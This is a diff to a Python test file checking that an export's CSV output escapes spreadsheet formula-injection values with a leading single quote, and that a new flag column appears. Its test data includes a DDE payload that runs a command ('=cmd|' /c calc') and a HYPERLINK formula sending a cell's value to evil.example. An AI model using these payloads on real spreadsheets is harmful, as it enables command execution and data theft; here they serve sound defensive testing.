@@ -99,10 +99,10 @@ def product(tmp_path_factory):
 
 
 def test_formula_values_and_aliases_are_escaped_in_the_csv(product):
-    text = product["files"]["output.csv"].decode()
+    text = product["files"]["output.csv"].decode("utf-8-sig")  # a byte order mark first
     rows = list(csv.reader(io.StringIO(text, newline="")))
     header, body = rows[0], rows[1:]
-    assert header == ["'" + ALIAS, "'@n"]
+    assert header == ["'" + ALIAS, "'@n", "'@n_flag"]  # the measure's flag column too
     shown = {row[0] for row in body}
     expected = {("'" + label) if label in FORMULA else label for label in LABELS}
     assert shown == expected, shown
@@ -111,13 +111,13 @@ def test_formula_values_and_aliases_are_escaped_in_the_csv(product):
         assert int(row[1]) > 0  # counts stay numbers
     # Every text field (values and names) is enclosed in double quotes; counts are not.
     first_line = text.split("\n", 1)[0]
-    assert first_line == "\"'=cmd|' /c calc'!a0\",\"'@n\"", first_line
+    assert first_line == '"\'=cmd|\' /c calc\'!a0","\'@n","\'@n_flag"', first_line
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",' in text
 
 
 def test_the_parquet_keeps_the_exact_values_and_names(product):
     table = pq.read_table(io.BytesIO(product["files"]["output.parquet"]))
-    assert table.column_names == [ALIAS, "@n"]
+    assert table.column_names == [ALIAS, "@n", "@n_flag"]
     assert set(table.column(ALIAS).to_pylist()) == set(LABELS)
 
 
@@ -127,7 +127,7 @@ def test_the_manifest_and_the_report_say_what_was_escaped(product):
     for note in (manifest["csv"], report["csv"]):
         assert note["formula_escaping"] == "owasp"
         assert "single quote" in note["rule"] and "output.parquet" in note["rule"]
-        assert note["escaped_cells"] == len(FORMULA) + 2  # the values and both names
+        assert note["escaped_cells"] == len(FORMULA) + 3  # the values and the three names
     platform = Platform.open(product["home"])
     try:
         verify_product(
